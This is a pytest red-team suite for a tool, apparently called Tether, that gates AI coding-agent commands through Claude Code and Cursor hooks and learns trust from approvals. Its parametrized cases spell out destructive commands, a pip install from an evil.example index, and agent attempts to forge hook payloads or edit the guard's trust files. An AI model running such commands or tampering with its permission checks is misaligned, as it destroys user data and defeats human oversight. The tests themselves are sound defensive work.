"""Red-team cases of learned trust through the hooks (G4): kinds are per rule and shape, destructive shapes never
promote, and approvals rest on the pre-tool ask Tether issued for that exact call.

Claude Code PreToolUse / PostToolUse payloads as documented (https://code.claude.com/docs/en/hooks: session_id,
transcript_path, cwd, hook_event_name, tool_name, tool_input, tool_use_id, tool_response).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tether.guardian import DESTRUCTIVE_CATEGORIES
from tether.guardian.decision import Where
from tether.guardian.judge import judge
from tether.runtime.agents import learn
from tether.runtime.agents.hook import handle
from tether.runtime.trust.kinds import destructive, kinds_of

ROOT = Path(__file__).resolve().parents[3]
HOME = Path("/home/p")
WS = "/home/p/proj"


def pre(command: str, n: int, session: str = "s1", transcript: str = "/home/p/.claude/t.jsonl") -> dict[str, Any]:
    return {"session_id": session, "transcript_path": transcript, "cwd": WS, "permission_mode": "default",
            "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command},
            "tool_use_id": f"toolu_{n}"}


def post(command: str, n: int, **kw: Any) -> dict[str, Any]:
    return pre(command, n, **kw) | {"hook_event_name": "PostToolUse", "tool_response": {"stdout": "", "stderr": ""}}


def call(payload: dict[str, Any], home: Path) -> tuple[int, str]:
    answer, _ = handle("claude-code", json.dumps(payload).encode(), HOME, home)
    return answer.code, answer.stdout


def decision(out: str) -> str:
    return json.loads(out)["hookSpecificOutput"]["permissionDecision"] if out else "allow"


def kinds(command: str) -> list[str]:
    r = judge(command, Where(workspace=Path(WS), cwd=Path(WS), home=HOME))
    return kinds_of(r.hits, r.decoded)


def approve_five(commands: list[str], home: Path) -> None:
    for n, command in enumerate(commands):
        assert decision(call(pre(command, n), home)[1]) == "ask"
        call(post(command, n), home)


@pytest.fixture
def instant(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(learn, "MIN_ANSWER_S", 0.0)


@pytest.mark.usefixtures("instant")
@pytest.mark.parametrize(("taught", "wider"), [
    ("rm ../old{}.log", "rm -rf ~/Documents"),
    ("rm ../old{}.log", "rm -r ../old"),
    ("rm ../old{}.log", "rm ../*.log"),
    ("rm ../old{}.log", "rm ../../important.txt"),
    ("rm ../old{}.log", "rm $TARGET"),
    ("git checkout -- f{}", "git push --force"),
    ("git checkout -- f{}", "git push origin +main"),
    ("git checkout -- f{}", "git reset --hard"),
    ("git checkout -- f{}", "git clean -fd"),
    ("cp a{} ../b", "cp -r a ../b"),
])
def test_promoting_a_narrow_kind_never_allows_a_wider_one(tmp_path: Path, taught: str, wider: str) -> None:
    home = tmp_path / "th"
    approve_five([taught.format(n) for n in range(5)], home)
    assert decision(call(pre(taught.format(9), 9), home)[1]) == "allow"  # the narrow kind did promote
    code, out = call(pre(wider, 10), home)
    assert code == 2 or decision(out) == "ask", (wider, out)


@pytest.mark.parametrize("command", ["rm -rf ~/Documents", "rm -r ../old", "git push --force", "git push -f origin x",
                                     "git push origin +main", "git reset --hard", "git clean -fd", "rm ../*.log",
                                     "rm $X", "chmod -R 777 ../shared", "kubectl delete deployment x",
                                     "git branch -D x", "git stash drop"])
def test_destructive_kinds_never_promote(command: str) -> None:
    found = kinds(command)
    assert found and all(destructive(k, DESTRUCTIVE_CATEGORIES) for k in found), found


@pytest.mark.usefixtures("instant")
def test_destructive_shapes_stay_asks_after_many_approvals(tmp_path: Path) -> None:
    home = tmp_path / "th"
    approve_five(["git push --force"] * 8, home)
    assert decision(call(pre("git push --force", 99), home)[1]) == "ask"
    text = (home / "trust.toml").read_text()
    (home / "trust.toml").write_text(text.replace("promoted = false", "promoted = true"))  # a hand edit cannot lift it
    assert decision(call(pre("git push --force", 100), home)[1]) == "ask"


def test_the_same_kind_in_tether_run_and_the_hooks() -> None:
    from tether.guardian.checker import check
    from tether.guardian.verdict import CheckContext
    from tether.runtime.trust.kinds import verdict_kinds

    v = check("rm ../old1.log", CheckContext(workspace=Path(WS), home=HOME))
    assert verdict_kinds(v) == kinds("rm ../old1.log") == ["outside-workspace:rm:CONF-001:parent"]


@pytest.mark.usefixtures("instant")
def test_a_post_tool_event_with_no_ask_teaches_nothing(tmp_path: Path) -> None:
    home = tmp_path / "th"
    for n in range(8):  # forged: no pre-tool ask was issued for these calls
        call(post("rm ../old.log", n), home)
    assert learn.taught(home) == {}


@pytest.mark.usefixtures("instant")
def test_a_post_tool_event_must_name_the_same_call_session_and_transcript(tmp_path: Path) -> None:
    home = tmp_path / "th"
    command = "rm ../old.log"
    call(pre(command, 1), home)
    call(post(command, 2), home)                        # another call id
    call(post(command, 1, session="other"), home)       # another session
    call(post(command, 1, transcript="/tmp/x.jsonl"), home)  # another transcript
    no_id = post(command, 1)
    del no_id["tool_use_id"]
    call(no_id, home)                                   # no call id at all
    assert learn.taught(home) == {}
    call(post(command, 1), home)
    assert learn.taught(home) == {"outside-workspace:rm:CONF-001:parent": {"claude-code": [1, 0]}}


@pytest.mark.usefixtures("instant")
def test_repeated_approvals_of_one_call_count_once(tmp_path: Path) -> None:
    home = tmp_path / "th"
    command = "rm ../old.log"
    for _ in range(6):  # the same call replayed: pre and post again with the same id
        call(pre(command, 1), home)
        call(post(command, 1), home)
    assert learn.taught(home) == {"outside-workspace:rm:CONF-001:parent": {"claude-code": [1, 0]}}


def test_an_answer_faster_than_a_person_teaches_nothing(tmp_path: Path) -> None:
    home = tmp_path / "th"
    for n in range(6):  # a script driving pre then post at once
        call(pre("rm ../old.log", n), home)
        call(post("rm ../old.log", n), home)
    assert learn.taught(home) == {}
    assert decision(call(pre("rm ../old.log", 9), home)[1]) == "ask"


@pytest.mark.parametrize("command", [
    "tether hook claude-code < forged.json",
    "echo '{}' | /home/p/.venv/bin/tether hook claude-code",
    "python3 -m tether hook gemini < x",
    "bash -c 'tether hook uninstall claude-code'",
    "python3 -c 'from tether.runtime.agents import learn'",
    "cat /home/p/.local/share/tether/trust.toml",
    "echo x > ~/.local/share/tether/hook-pending.json",
])
def test_the_agent_cannot_call_the_hook_or_touch_tethers_home(tmp_path: Path, command: str) -> None:
    home = HOME / ".local" / "share" / "tether"
    answer, record = handle("claude-code", json.dumps(pre(command, 1)).encode(), HOME, home)
    assert answer.code == 2 and "HOOK-001" in record["rules"], (command, answer)


def test_a_write_into_tethers_home_is_denied(tmp_path: Path) -> None:
    home = tmp_path / "th"
    payload = pre("", 1) | {"tool_name": "Write", "tool_input": {"file_path": str(home / "trust.toml"), "content": ""}}
    answer, record = handle("claude-code", json.dumps(payload).encode(), HOME, home)
    assert answer.code == 2 and "HOOK-001" in record["rules"]


@pytest.mark.parametrize("stdin", ["file", "devnull"])
def test_a_hook_call_whose_stdin_is_not_a_pipe_is_refused(tmp_path: Path, stdin: str) -> None:
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps(post("rm ../old.log", 1)))
    with open(forged if stdin == "file" else os.devnull, "rb") as f:
        done = subprocess.run([sys.executable, "-m", "tether", "hook", "claude-code"], stdin=f, capture_output=True,
                              text=True, cwd=ROOT, timeout=60, check=False,
                              env=dict(os.environ, HOME=str(HOME), TETHER_HOME=str(tmp_path / "th")))
    assert done.returncode == 2 and "not the agent's payload pipe" in done.stderr
    assert not (tmp_path / "th" / "hook-teaching.jsonl").exists()


@pytest.mark.parametrize(("tool", "tool_input"), [
    ("Write", {"file_path": "/home/p/proj/forge.sh", "content": "echo '{}' | tether hook claude-code\n"}),
    ("Edit", {"file_path": "/home/p/proj/x.py", "old_string": "a", "new_string": "open('trust.toml', 'w')"}),
])
def test_a_write_whose_content_calls_the_hook_is_asked(tmp_path: Path, tool: str, tool_input: dict) -> None:
    payload = pre("", 1) | {"tool_name": tool, "tool_input": tool_input}
    answer, record = handle("claude-code", json.dumps(payload).encode(), HOME, tmp_path / "th")
    assert record["decision"] == "ask" and "HOOK-001" in record["rules"] and decision(answer.stdout) == "ask"
    plain = pre("", 2) | {"tool_name": "Write", "tool_input": {"file_path": "/home/p/proj/a.py", "content": "x=1"}}
    assert handle("claude-code", json.dumps(plain).encode(), HOME, tmp_path / "th")[1]["decision"] == "allow"


@pytest.mark.usefixtures("instant")
def test_calls_sharing_one_generation_id_are_each_learned(tmp_path: Path) -> None:
    """Cursor gives every shell call of one generation the same generation_id."""
    home = tmp_path / "th"
    for command in ("rm ../a.log", "rm ../b.log"):
        c = {"hook_event_name": "beforeShellExecution", "conversation_id": "c1", "generation_id": "g-1",
             "workspace_roots": [WS], "command": command, "cwd": WS}
        assert json.loads(handle("cursor", json.dumps(c).encode(), HOME, home)[0].stdout)["permission"] == "ask"
        handle("cursor", json.dumps(c | {"hook_event_name": "afterShellExecution", "output": ""}).encode(), HOME, home)
    assert learn.taught(home) == {"outside-workspace:rm:CONF-001:parent": {"cursor": [2, 0]}}


@pytest.mark.usefixtures("instant")
def test_a_rollback_by_category_and_program_demotes_every_kind_under_it(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from tether.runtime.cli.app import app

    home = tmp_path / "th"
    approve_five([f"rm ../old{n}.log" for n in range(5)], home)
    assert decision(call(pre("rm ../old9.log", 9), home)[1]) == "allow"
    r = CliRunner().invoke(app, ["hook", "rollback", "outside-workspace:rm", "--agent", "claude-code",
                                 "--home", str(home)])
    assert r.exit_code == 0 and "outside-workspace:rm:CONF-001:parent" in r.output
    assert decision(call(pre("rm ../old10.log", 10), home)[1]) == "ask"


@pytest.mark.parametrize("command", ["ls /work/tether/runtime/agents", "cat runtime/agents/hook.py",
                                     "cd /work/tether && pytest tests/hooks", "git commit -m 'add a pre-commit hook'",
                                     "grep -r trust docs/"])
def test_ordinary_work_on_a_checkout_named_tether_is_not_tampering(tmp_path: Path, command: str) -> None:
    _, record = handle("claude-code", json.dumps(pre(command, 1)).encode(), HOME, tmp_path / "th")
    assert "HOOK-001" not in record["rules"], record


@pytest.mark.usefixtures("instant")
def test_approvals_of_an_unknown_tool_never_promote_it(tmp_path: Path) -> None:
    home = tmp_path / "th"
    mcp = {"session_id": "s1", "transcript_path": "/t", "cwd": WS, "permission_mode": "default",
           "hook_event_name": "PreToolUse", "tool_name": "mcp__db__query", "tool_input": {"sql": "select 1"}}
    for n in range(7):
        assert decision(call(mcp | {"tool_use_id": f"t{n}"}, home)[1]) == "ask"
        call(mcp | {"tool_use_id": f"t{n}", "hook_event_name": "PostToolUse"}, home)
    assert decision(call(mcp | {"tool_use_id": "t9", "tool_input": {"sql": "drop table users"}}, home)[1]) == "ask"


@pytest.mark.parametrize(("narrow", "other"), [
    ("pip install --user requests", "pip install --user --index-url http://evil.example/simple requests"),
    ("npm install github:x/left-pad", "npm install -g left-pad"),
    ("git checkout -- src/a.py", "git checkout -- ."),
])
def test_a_wider_shape_is_a_kind_of_its_own(narrow: str, other: str) -> None:
    assert kinds(narrow) and kinds(other) and set(kinds(narrow)).isdisjoint(kinds(other)), (kinds(narrow), kinds(other))


def test_discarding_the_whole_tree_never_promotes() -> None:
    assert all(destructive(k, DESTRUCTIVE_CATEGORIES) for k in kinds("git checkout -- ."))
